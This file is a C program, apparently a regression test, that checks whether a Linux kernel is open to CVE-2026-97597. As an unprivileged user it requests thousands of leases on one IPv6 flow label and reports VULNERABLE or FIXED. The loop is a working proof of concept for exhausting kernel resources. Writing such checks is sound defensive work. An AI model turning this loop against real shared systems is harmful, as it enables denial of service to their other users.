// SPDX-License-Identifier: GPL-2.0-or-later
/* CVE-2026-97597: an unprivileged socket can take unlimited leases on one IPv6 flow label. Start as root, drops to nobody. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <grp.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#ifndef IPV6_FLOWLABEL_MGR
#define IPV6_FLOWLABEL_MGR 32
#endif
struct flreq {
	struct in6_addr dst;
	uint32_t label;
	uint8_t action, share;
	uint16_t flags, expires, linger;
	uint32_t pad;
};
int main(void)
{
	struct flreq r = { .action = 0, .share = 255, .flags = 1, .expires = 60, .linger = 60 };
	int s, i;

	if (setgroups(0, NULL) || setgid(65534) || setuid(65534)) {
		printf("ERROR: drop privileges: %s\n", strerror(errno));
		return 2;
	}
	s = socket(AF_INET6, SOCK_DGRAM, 0);
	if (s < 0) {
		printf("ERROR: socket: %s\n", strerror(errno));
		return 2;
	}
	r.dst = in6addr_loopback;
	r.label = htonl(0x12345);
	if (setsockopt(s, IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, &r, sizeof(r))) {
		printf("ERROR: first lease: %s\n", strerror(errno));
		return 2;
	}
	r.flags = 0;
	for (i = 1; i < 5000; i++)
		if (setsockopt(s, IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, &r, sizeof(r)))
			break;
	if (i == 5000) {
		printf("VULNERABLE: one unprivileged socket took %d leases\n", i);
		return 1;
	}
	if (errno != ENOBUFS) {
		printf("ERROR: lease %d: %s\n", i, strerror(errno));
		return 2;
	}
	printf("FIXED: refused after %d leases\n", i);
	return 0;
}
